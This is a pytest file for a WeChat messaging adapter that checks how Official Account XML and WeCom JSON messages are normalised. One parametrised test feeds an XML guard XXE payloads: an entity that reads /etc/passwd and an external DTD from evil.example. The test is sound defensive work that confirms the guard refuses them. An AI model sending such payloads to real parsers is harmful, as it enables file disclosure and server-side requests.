"""Normalising WeChat's messages without a server: the XML guard, Official Account XML and
WeCom customer-service JSON."""

from __future__ import annotations

import pytest
from fake_wechat_api import oa_xml

from adapters.wechat.messages import kf_normalise, oa_normalise, parse_oa_message
from adapters.wechat.safexml import BadXML, check_xml


def media_url(media_id: str, name: str) -> str:
    return f"/media/{media_id}/{name}"


def normalise(xml: str):
    return oa_normalise(parse_oa_message(xml.encode()), media_url)


def test_a_text_message():
    n = normalise(oa_xml("o1", "text", create_time=1700000000, Content="你好", MsgId=42))
    assert (n.customer_id, n.external_id, n.kind, n.text, n.grant) == (
        "o1",
        "42",
        "text",
        "你好",
        "message",
    )
    assert n.sent_at.timestamp() == 1700000000


def test_a_qr_subscription_keeps_the_scene_and_opens_an_event_window():
    n = normalise(
        oa_xml("o1", "event", create_time=5, Event="subscribe", EventKey="qrscene_77", Ticket="T")
    )
    assert (n.kind, n.grant, n.metadata["scene"], n.metadata["ticket"]) == (
        "event.subscribe",
        "event",
        "77",
        "T",
    )
    assert n.external_id == "o1:5:subscribe_scan"


@pytest.mark.parametrize(
    "body",
    [
        '<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml>&e;</xml>',
        '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml/>',
        "<xml>&unknown;</xml>",
        "<xml><a></b></xml>",
        "",
    ],
)
def test_the_guard_refuses_dtds_entities_and_malformed_xml(body):
    with pytest.raises(BadXML):
        check_xml(body.encode())


def test_kf_kinds():
    def item(msgtype: str, body: dict) -> dict:
        return {
            "msgid": "m1",
            "external_userid": "wm1",
            "send_time": 1,
            "msgtype": msgtype,
            msgtype: body,
        }

    assert kf_normalise(item("text", {"content": "hi", "menu_id": "101"}), media_url).metadata == {
        "menu_id": "101"
    }
    voice = kf_normalise(item("voice", {"media_id": "V"}), media_url)
    assert voice.kind == "voice" and voice.attachments[0].url.startswith("/media/V/")
    link = kf_normalise(
        item("link", {"title": "T", "desc": "D", "url": "https://u/", "pic_url": "p"}), media_url
    )
    assert link.text == "[link] T\nD\nhttps://u/"
    unknown = kf_normalise(item("note", {"x": 1}), media_url)
    assert unknown.kind == "unknown:note" and "x: 1" in unknown.text
    entered = kf_normalise(
        {
            "msgid": "e",
            "msgtype": "event",
            "event": {"event_type": "enter_session", "external_userid": "wm2", "scene": "s"},
        },
        media_url,
    )
    assert (entered.customer_id, entered.kind, entered.grant) == (
        "wm2",
        "event.enter_session",
        "none",
    )
